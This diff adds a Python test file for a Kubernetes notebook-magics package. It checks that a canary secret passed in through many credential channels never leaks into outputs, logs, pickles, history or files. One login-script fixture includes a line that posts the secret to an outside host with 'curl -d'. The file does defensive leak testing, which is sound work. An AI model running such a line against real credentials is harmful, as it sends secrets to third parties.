@@ -1,0 +1,346 @@
+"""Every channel by which a secret comes in, and every output in which it could come out again.
+
+A channel puts the canary where a secret comes from, and gives cells that use it: some succeed, some fail. Whatever they leave
+behind is looked through, in each of the ways in which a canary can be written.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import logging
+import pickle
+import sys
+import threading
+import traceback
+from collections.abc import Callable, Iterator
+from contextlib import suppress
+from dataclasses import dataclass, field
+from pathlib import Path
+from types import FrameType
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+
+from sspcloud_magics import session
+from sspcloud_magics.cluster.identity import find_cluster
+from sspcloud_magics.secret import Secret
+from sspcloud_magics.session import state
+from sspcloud_magics.widgets import looks
+from sspcloud_magics.widgets.board import Board
+from tests.cluster import tokens
+from tests.cluster.api_server import ApiServer, Asked
+from tests.cluster.api_server import status as status_answer
+from tests.magics.conftest import Notebook
+
+CANARY = "c4naryInACoalMine"
+V1 = "client.authentication.k8s.io/v1"
+PODS, ME = "/api/v1/namespaces/default/pods", "/apis/authentication.k8s.io/v1/selfsubjectreviews"
+MODES = ("Plain", "Context", "Verbose")
+CELLS = ("%k8s_whoami", "%k8s_pods", "%k8s_doctor", "%k8s_doctor --json --redacted")
+
+
+def written(secret: str) -> list[str]:
+    """Return how a secret may be written: as it is, in base64 at any offset, and for a URL."""
+    data = secret.encode()
+    encoded = [base64.b64encode(b"x" * offset + data).decode()[4:-4] for offset in range(3)]
+    return [secret, quote(secret), *encoded]
+
+
+@dataclass
+class Stage:
+    """What a channel needs."""
+
+    api: ApiServer
+    folder: Path
+    kubeconfig: Callable[..., Path]
+    environ: pytest.MonkeyPatch
+    cells: list[str] = field(default_factory=lambda: list(CELLS))
+
+    def user(self, user: dict[str, Any], **cluster: Any) -> None:
+        """Use a kubeconfig with this user."""
+        here = {
+            "server": self.api.url,
+            "certificate-authority": str(self.api.ca_file(self.folder)),
+            **cluster,
+        }
+        self.environ.setenv("KUBECONFIG", str(self.kubeconfig(cluster=here, user=user)))
+
+    def file(self, text: str, name: str = "secret-file", mode: int = 0o600) -> Path:
+        """Write a file."""
+        file = self.folder / name
+        file.write_text(text)
+        file.chmod(mode)
+        return file
+
+    def plugin(self, body: str) -> None:
+        """Use a login command that runs this Python."""
+        command = self.file(f"#!{sys.executable} -IS\nimport json\n{body}\n", "login", 0o700)
+        self.user({"exec": {"apiVersion": V1, "command": str(command)}})
+
+
+def credential(**status: str) -> str:
+    return f"print(json.dumps({{'apiVersion': {V1!r}, 'kind': 'ExecCredential', 'status': {status!r}}}))"
+
+
+def jwt(**more: Any) -> str:
+    """Return a token whose signature is the canary."""
+    head, claims, _ = tokens.token(iss="https://127.0.0.1:1", aud="k8s", sub="bob", **more).split(".")
+    return f"{head}.{claims}.{CANARY}"
+
+
+def oidc(**config: str) -> dict[str, Any]:
+    told = {"idp-issuer-url": "https://127.0.0.1:1", "client-id": "k8s", "id-token": jwt(exp=1), **config}
+    return {"auth-provider": {"name": "oidc", "config": told}}
+
+
+def login_script(token: str, more: str = "") -> str:
+    return (
+        f"kubectl config set-cluster c --server=https://127.0.0.1:1\n"
+        f"kubectl config set-credentials me --token={token}\n"
+        "kubectl config set-context c --user=me --cluster=c\n"
+        f"kubectl config use-context c\n{more}"
+    )
+
+
+def service_account(stage: Stage, token: str) -> None:
+    mount = stage.folder / "mount"
+    mount.mkdir()
+    (mount / "token").write_text(token)
+    (mount / "ca.crt").write_text(stage.api.ca_pem)
+    host, port = stage.api.url.removeprefix("https://").split(":")
+    environ = {"KUBERNETES_SERVICE_HOST": host, "KUBERNETES_SERVICE_PORT": port}
+    state.session.cluster = find_cluster(mount=mount, environ=environ)
+
+
+def a_pasted_script(stage: Stage, text: str) -> None:
+    del stage
+    board = Board(PASTED.append)
+    board.receive({"do": "log in", "script": text, "key": "log in", "id": "1"})
+    for thread in [each for each in threading.enumerate() if each.name == "sspcloud-order"]:
+        thread.join()
+    board._turn()
+    PASTED.append({"board": repr(vars(board))})
+    board.close()
+
+
+PASTED: list[dict[str, Any]] = []
+FROM_URL = (
+    "import os\nfrom sspcloud_magics.secret import Secret\nfrom sspcloud_magics.databases.credentials import from_url\n"
+    "from_url(Secret(os.environ['DATABASE_URL']))"
+)
+TYPED = (
+    "from sspcloud_magics.databases.credentials import asked\n"
+    "from sspcloud_magics.databases.discovery import Database\n"
+    "asked('bob', Database('db', 'user-alice', 'postgres', 'db-rw', 5432), lambda _prompt: held[0].reveal())"
+)
+
+CHANNELS: dict[str, Callable[[Stage], object]] = {
+    "kubeconfig token": lambda stage: stage.user({"token": CANARY}),
+    "kubeconfig token with a line end": lambda stage: stage.user({"token": f"{CANARY}\nX"}),
+    "kubeconfig token in a list": lambda stage: stage.user({"token": [CANARY]}),
+    "kubeconfig that is no YAML": lambda stage: stage.environ.setenv(
+        "KUBECONFIG", str(stage.file(f"users: [{{token: {CANARY}"))
+    ),
+    "kubeconfig of another shape": lambda stage: stage.environ.setenv(
+        "KUBECONFIG", str(stage.file(json.dumps({"users": [{"token": CANARY}]})))
+    ),
+    "client key": lambda stage: stage.user(
+        {
+            "client-certificate-data": base64.b64encode(b"x").decode(),
+            "client-key-data": base64.b64encode(CANARY.encode()).decode(),
+        }
+    ),
+    "client key that is no text": lambda stage: stage.user(
+        {
+            "client-certificate-data": "eA==",
+            "client-key-data": base64.b64encode(CANARY.encode() + b"\xff").decode(),
+        }
+    ),
+    "basic password": lambda stage: stage.user({"username": "bob", "password": CANARY}),
+    "token file": lambda stage: stage.user({"tokenFile": str(stage.file(CANARY))}),
+    "token file of two lines": lambda stage: stage.user({"tokenFile": str(stage.file(f"{CANARY}\nX"))}),
+    "exec plugin": lambda stage: stage.plugin(credential(token=CANARY)),
+    "exec plugin with a line end": lambda stage: stage.plugin(credential(token=f"{CANARY}\nX")),
+    "exec plugin that prints something else": lambda stage: stage.plugin(f"print({CANARY!r})"),
+    "exec plugin with a key": lambda stage: stage.plugin(
+        credential(clientCertificateData="x", clientKeyData=CANARY)
+    ),
+    "service account": lambda stage: service_account(stage, CANARY),
+    "service account with a line end": lambda stage: service_account(stage, f"{CANARY}\nX"),
+    "OIDC tokens": lambda stage: stage.user(oidc(**{"refresh-token": CANARY, "client-secret": CANARY})),
+    "OIDC ID token with a line end": lambda stage: stage.user(oidc(**{"id-token": f"{CANARY}\n.b.c"})),
+    "OIDC refresh token with a line end": lambda stage: stage.user(oidc(**{"refresh-token": f"{CANARY}\nX"})),
+    "another auth provider": lambda stage: stage.user(
+        {"auth-provider": {"name": "gcp", "config": {"access-token": CANARY}}}
+    ),
+    "login script": lambda stage: stage.cells.insert(
+        0, f"%k8s_login {stage.file(login_script(CANARY), 'config.sh')}"
+    ),
+    "login script with a foreign line": lambda stage: stage.cells.insert(
+        0, f"%k8s_login {stage.file(login_script(CANARY, f'curl -d {CANARY} x'), 'config.sh')}"
+    ),
+    "login script with a line end": lambda stage: stage.cells.insert(
+        0, f"%k8s_login {stage.file(login_script(chr(34) + CANARY + chr(10) + 'X' + chr(34)), 'config.sh')}"
+    ),
+    "pasted script": lambda stage: a_pasted_script(stage, login_script(CANARY)),
+    "pasted script with a foreign line": lambda stage: a_pasted_script(stage, login_script(CANARY, CANARY)),
+    "HTTPS_PROXY": lambda stage: proxied(stage, f"http://bob:{CANARY}@127.0.0.1:1"),
+    "HTTPS_PROXY with a #": lambda stage: proxied(stage, f"http://bob:{CANARY}#et@127.0.0.1:1"),
+    "proxy-url": lambda stage: stage.user(
+        {"token": "t"}, **{"proxy-url": f"http://bob:{CANARY}@127.0.0.1:1"}
+    ),
+    "proxy-url with a /": lambda stage: stage.user(
+        {"token": "t"}, **{"proxy-url": f"http://bob:{CANARY}/x@127.0.0.1:1"}
+    ),
+    "server with a password": lambda stage: stage.user({"token": "t"}, server=f"https://bob:{CANARY}@x"),
+    "server with a password and a #": lambda stage: stage.user(
+        {"token": "t"}, server=f"https://b:{CANARY}#@x"
+    ),
+    "database URL": lambda stage: database_url(stage, f"postgresql://bob:{CANARY}@host/db"),
+    "database URL without a user": lambda stage: database_url(stage, f"postgresql://:{CANARY}@host/db"),
+    "database URL that is none": lambda stage: database_url(stage, f"postgresql://bob:{CANARY}%zz@host"),
+    "typed password": lambda stage: stage.cells.insert(0, TYPED),
+    "typed password with NUL": lambda stage: stage.cells.insert(
+        0, TYPED.replace("reveal()", "reveal() + '\\0'")
+    ),
+    "Secret of the cluster": lambda stage: secret_of_the_cluster(
+        stage, {"name": "s", "namespace": "default"}
+    ),
+    "Secret of another shape": lambda stage: secret_of_the_cluster(stage, {"name": "s"}),
+}
+
+
+def proxied(stage: Stage, url: str) -> None:
+    stage.environ.setenv("HTTPS_PROXY", url)
+    stage.user({"token": "t"}, server="https://api.example:6443")
+
+
+def database_url(stage: Stage, url: str) -> None:
+    stage.environ.setenv("DATABASE_URL", url)
+    stage.cells.insert(0, FROM_URL)
+
+
+def secret_of_the_cluster(stage: Stage, metadata: dict[str, str]) -> None:
+    stage.user({"token": "t"})
+    data = {"password": base64.b64encode(CANARY.encode()).decode()}
+    stage.api.answers["/api/v1/namespaces/default/secrets"] = {
+        "items": [{"metadata": metadata, "data": data}]
+    }
+    stage.cells.append("%databases")
+
+
+def said_back(asked: Asked) -> tuple[int, str, bytes]:
+    """Answer with what the client has shown."""
+    return status_answer(500, f"the token {asked.token} is not known")
+
+
+def frames(error: BaseException | None) -> Iterator[FrameType]:
+    """Yield what a debugger can look at: the frames of an error, and of those that led to it."""
+    seen: set[int] = set()
+    waiting = [error]
+    while waiting:
+        each = waiting.pop()
+        if each is None or id(each) in seen:
+            continue
+        seen.add(id(each))
+        waiting += [each.__cause__, each.__context__]
+        for frame, _line in traceback.walk_tb(each.__traceback__):
+            yield frame
+
+
+def variables(error: BaseException | None) -> str:
+    """Return all variables of those frames that are ours, as a debugger prints them."""
+    told = []
+    for frame in frames(error):
+        if "sspcloud_magics" in frame.f_code.co_filename:
+            for value in list(frame.f_locals.values()):
+                with suppress(Exception):
+                    told.append(repr(value))
+    return "\n".join(told)
+
+
+def pickled(value: object) -> str:
+    try:
+        return pickle.dumps(value).decode("latin-1")
+    except Exception as error:  # noqa: BLE001 - a refusal is as good, if it does not say what it refuses
+        return f"{error!r}"
+
+
+def outputs(notebook: Notebook, cell: str, caplog: pytest.LogCaptureFixture) -> dict[str, str]:
+    """Run a cell, and return all that it leaves behind."""
+    ran = notebook._run(cell, store_history=True)
+    error, result = ran.error_in_exec or ran.error_before_exec, ran.result
+    shown: dict[str, str] = {"cell": notebook.printed}
+    if result is not None:
+        bundle, metadata = notebook.shell.display_formatter.format(result)  # type: ignore[union-attr]
+        shown |= {"HTML": f"{bundle}{metadata}", "repr": f"{result!r}{result}"}
+    if error is not None:
+        shown |= {
+            "error": f"{error!r}{error}{vars(error)}{error.__context__!r}{error.__cause__!r}",
+            "frames": variables(error),
+            "panel": json.dumps(looks.trouble(error)),
+        }
+    cluster = state.session.cluster
+    shown |= {
+        "pickle": pickled(error) + pickled(result) + pickled(cluster),
+        "session": f"{cluster!r}{state.session!r}{session.recent_use()!r}",
+        "log": "\n".join([caplog.text, *(str(vars(record)) for record in caplog.records)]),
+        "history": f"{notebook.shell.history_manager.input_hist_raw}{notebook.shell.user_ns['Out']}",  # type: ignore[union-attr]
+    }
+    with suppress(Exception):
+        shown["access"] = f"{session.current_cluster().access()!r}"
+    return shown
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize("channel", CHANNELS)
+def test_a_secret_comes_out_nowhere(  # noqa: PLR0917 - fixtures
+    notebook: Notebook,
+    api: ApiServer,
+    tmp_path: Path,
+    write_kubeconfig: Callable[..., Path],
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+    channel: str,
+    mode: str,
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    PASTED.clear()
+    api.answers |= {PODS: said_back, ME: {"status": {"userInfo": {"username": "bob"}}}}
+    notebook.run(f"%xmode {mode}")
+    stage = Stage(api, tmp_path, write_kubeconfig, monkeypatch)
+    notebook.shell.user_ns["held"] = [Secret(CANARY)]
+    CHANNELS[channel](stage)
+    before = holding(tmp_path)
+    found = []
+    for cell in stage.cells:
+        for output, text in outputs(notebook, cell, caplog).items():
+            found += [(cell, output) for canary in written(CANARY) if canary in text]
+    found += [("pasted", "panel") for canary in written(CANARY) if canary in json.dumps(PASTED, default=repr)]
+    assert found == []
+    assert holding(tmp_path) == before
+
+
+def holding(folder: Path) -> set[Path]:
+    """Return the files that hold a canary."""
+    files = [file for file in folder.rglob("*") if file.is_file()]
+    return {
+        file for file in files if any(each in file.read_text(errors="replace") for each in written(CANARY))
+    }
+
+
+def test_the_canaries_would_be_found(notebook: Notebook, caplog: pytest.LogCaptureFixture) -> None:
+    """What looks for canaries sees one that a cell lets out, in each output that it looks at."""
+    caplog.set_level(logging.DEBUG)
+    cell = (
+        "import logging\nfrom sspcloud_magics.errors import UsageProblem\n"
+        f"logging.getLogger('x').debug({CANARY!r})\nprint({CANARY!r})\n"
+        f"raise UsageProblem({CANARY!r})"
+    )
+    shown = outputs(notebook, cell, caplog)
+    for output in ("cell", "error", "panel", "pickle", "log", "history"):
+        assert CANARY in shown[output], output
+    assert CANARY in outputs(notebook, f"{CANARY!r}", caplog)["HTML"]
+    assert all(len(each) > 8 for each in written(CANARY))
